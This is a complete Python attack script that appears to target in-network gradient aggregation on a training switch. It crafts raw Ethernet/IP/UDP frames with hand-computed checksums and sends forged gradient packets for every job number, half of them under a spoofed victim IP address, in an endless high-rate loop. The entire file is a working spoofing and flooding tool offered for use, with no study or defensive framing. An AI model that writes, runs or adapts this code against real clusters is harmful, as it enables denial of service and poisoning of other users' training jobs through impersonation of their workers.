#!/usr/bin/env python3
"""Sends gradient packets as fast as its link takes them, until it is ended: of every job number, in turn as itself and under the
address of another host's worker: forge.py SWITCH_IP VICTIM_IP"""
import itertools
import os
import socket
import struct
import subprocess
import sys

switch, victim = (socket.inet_aton(ip) for ip in sys.argv[1:])
DATA_PORT, BODY = 48864, bytes(1024)


def neighbour(ip):
    subprocess.run(["ping", "-q", "-c1", "-W5", ip], stdout=subprocess.DEVNULL, check=False)
    said = subprocess.check_output(["ip", "neigh", "show", ip], text=True).split()
    return bytes.fromhex(said[said.index("lladdr") + 1].replace(":", ""))


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def frame(source, job, tag):
    payload = struct.pack("!BBIHBB", 0x14, job, tag, tag % 1024, 0x11, 0) + BODY
    udp = struct.pack("!HHHH", 30000 + tag % 64, DATA_PORT, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, switch)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return there + here + b"\x08\x00" + ip + udp


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
here = wire.getsockname()[4]
there = neighbour(sys.argv[1])
own = socket.inet_aton(subprocess.check_output(["ip", "-o", "-4", "addr", "show", "dev", "eth0"], text=True).split()[3].split("/")[0])
frames = [frame(source, job, tag) for tag in range(16) for job in range(16) for source in (own, victim)]
for one in itertools.cycle(frames):
    try:
        wire.send(one)
    except OSError:  # the queue is full
        os.sched_yield()
